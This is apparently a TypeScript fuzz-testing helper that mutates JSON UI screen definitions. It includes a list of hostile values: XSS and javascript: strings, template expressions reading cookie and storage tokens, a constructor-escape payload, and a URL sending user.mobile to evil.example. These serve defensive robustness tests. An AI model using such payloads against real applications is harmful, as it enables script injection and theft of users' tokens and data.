/** For tests: mutations of screens at one place, with hostile and with merely unusual values. */
import * as fc from 'fast-check';
import { child, isObject } from '../schema/json';

/** Values that try to inject code, markup, another site or another person's data. */
export const HOSTILE = [
  '<img src=x onerror=alert(1)>',
  '<%= alert(1) %>',
  'javascript:alert(1)',
  'js:alert(1)',
  'jsonp:/x?cb=alert',
  '${window:location.href}',
  '${cookie:atelier_token}',
  '${ls:token}',
  '${ss:token}',
  '${x | raw}',
  '${constructor.constructor("alert(1)")()}',
  '${[].constructor}',
  '${__proto__}',
  'function () { alert(1) }',
  '(x) => alert(x)',
  '${',
  '${a.',
  '}}',
  '{{ $self }}',
  '//evil.example',
  'https://evil.example/${user.mobile}',
  '\u0000',
  '\ud800',
  '__proto__',
  'constructor',
  'x'.repeat(5_000),
  `\${${'('.repeat(2_000)}`,
  `\${${'!'.repeat(3_000)}1}`,
  '${ARRAYMAP(source, a => ARRAYMAP(a, b => b))}',
];

export const anyValue = fc.oneof(
  { weight: 3, arbitrary: fc.constantFrom<unknown>(...HOSTILE) },
  {
    weight: 2,
    arbitrary: fc.constantFrom<unknown>(
      null,
      true,
      0,
      -1,
      1e308,
      '',
      [],
      {},
      [[]],
      { type: 'table' },
      { type: 'amis' },
      { type: 'house', body: {} },
      { action: 'call' },
      [null],
      ['x'],
    ),
  },
  { weight: 1, arbitrary: fc.jsonValue({ maxDepth: 3 }) },
);

export interface Place {
  container: Record<string, unknown>;
  key: string;
  pointer: string;
}

/** Every place of a JSON value, as its container and key. */
export function places(json: unknown, found: Place[] = [], pointer = ''): Place[] {
  if (typeof json !== 'object' || json === null) return found;
  for (const [key, each] of Object.entries(json)) {
    found.push({ container: json as Record<string, unknown>, key, pointer: child(pointer, key) });
    places(each, found, child(pointer, key));
  }
  return found;
}

function at(json: unknown, pick: number): Place {
  const all = places(json);
  return all[pick % all.length]!;
}

type Change = (json: unknown, pick: number, with_: unknown) => void;
export const CHANGES: Readonly<Record<string, Change>> = {
  replace: (json, pick, with_) => {
    const place = at(json, pick);
    place.container[place.key] = with_;
  },
  remove: (json, pick) => {
    const place = at(json, pick);
    if (Array.isArray(place.container)) place.container.splice(Number(place.key), 1);
    else delete place.container[place.key];
  },
  rename: (json, pick, with_) => {
    const place = at(json, pick);
    place.container[`${place.key}${typeof with_ === 'string' ? with_.slice(0, 20) : 'x'}`] = place.container[place.key];
    delete place.container[place.key];
  },
  add: (json, pick, with_) => {
    const place = at(json, pick);
    if (isObject(place.container))
      place.container[
        ['onClick', 'adaptor', 'id', 'visible', 'do', 'body', 'source', 'type', 'html', 'constructor'][pick % 10]!
      ] = with_;
  },
  append: (json, pick, with_) => {
    const place = at(json, pick);
    if (Array.isArray(place.container)) place.container.push(with_);
  },
  splice: (json, pick, with_) => {
    const place = at(json, pick);
    const old = place.container[place.key];
    if (typeof old === 'string')
      place.container[place.key] =
        old.slice(0, pick % (old.length + 1)) + JSON.stringify(with_) + old.slice(pick % (old.length + 1));
  },
  wrap: (json, pick) => {
    const place = at(json, pick);
    for (let depth = 0; depth < 30; depth++)
      place.container[place.key] = { type: 'card', body: [place.container[place.key]] };
  },
  copy: (json, pick) => {
    const [place, other] = [at(json, pick), at(json, pick * 7 + 3)];
    place.container[place.key] = structuredClone(other.container[other.key]);
  },
};

/** Generators for a screen and the kind of its mutation. */
export const change = { kind: fc.constantFrom(...Object.keys(CHANGES)), pick: fc.nat(10_000), value: anyValue };

// ---------------------------------------------------------------- systematic mutations of every place

export interface Mutation {
  readonly what: string;
  readonly text: string;
}

const retyped = (value: unknown): unknown => {
  if (typeof value === 'string') return value.length;
  if (typeof value === 'number') return String(value);
  if (typeof value === 'boolean' || value === null) return [value];
  return Array.isArray(value)
    ? Object.fromEntries(value.map((each, index) => [`k${index}`, each as unknown]))
    : Object.values(value as object);
};
const nested = (value: unknown, depth: number, wrap: (value: unknown) => unknown): unknown =>
  depth === 0 ? value : nested(wrap(value), depth - 1, wrap);

/** Mutations of the value at a place, by kind. */
const MUTATIONS: Readonly<Record<string, (place: Place) => void>> = {
  deleted: ({ container, key }) => {
    if (Array.isArray(container)) container.splice(Number(key), 1);
    else delete container[key];
  },
  retyped: ({ container, key }) => {
    container[key] = retyped(container[key]);
  },
  renamed: ({ container, key }) => {
    container[`${key}s`] = container[key];
    delete container[key];
  },
  duplicated: ({ container, key }) => {
    if (Array.isArray(container)) container.push(structuredClone(container[Number(key)]));
    else container[`${key}2`] = structuredClone(container[key]);
  },
  deep: ({ container, key }) => {
    container[key] = nested(container[key], 45, (value) => [value]);
  },
  nested: ({ container, key }) => {
    container[key] = nested(container[key], 8, (value) => ({ type: 'card', body: [value] }));
  },
  huge: ({ container, key }) => {
    container[key] =
      typeof container[key] === 'string'
        ? container[key].repeat(2_000)
        : Array.from({ length: 2_000 }, () => container[key]);
  },
  emptied: ({ container, key }) => {
    container[key] = typeof container[key] === 'string' ? '' : Array.isArray(container[key]) ? [] : {};
  },
};

/** Every mutation at `amount` places spread over the text, starting with the `first`, and the text truncated there. */
export function mutationsOf(text: string, amount: number, first = 0): Mutation[] {
  const all = places(JSON.parse(text));
  const found: Mutation[] = [];
  const step = all.length / Math.min(amount, all.length);
  for (let at = first % step; at < all.length; at += step) {
    const index = Math.floor(at);
    const { pointer } = all[index]!;
    for (const [kind, change_] of Object.entries(MUTATIONS)) {
      const json = JSON.parse(text) as unknown;
      change_(places(json).find((place) => place.pointer === pointer)!);
      found.push({ what: `${kind} ${pointer}`, text: JSON.stringify(json, null, 2) });
    }
    const cut = Math.floor((text.length * index) / all.length);
    found.push({ what: `half-written at ${cut}`, text: text.slice(0, cut) });
  }
  return found;
}
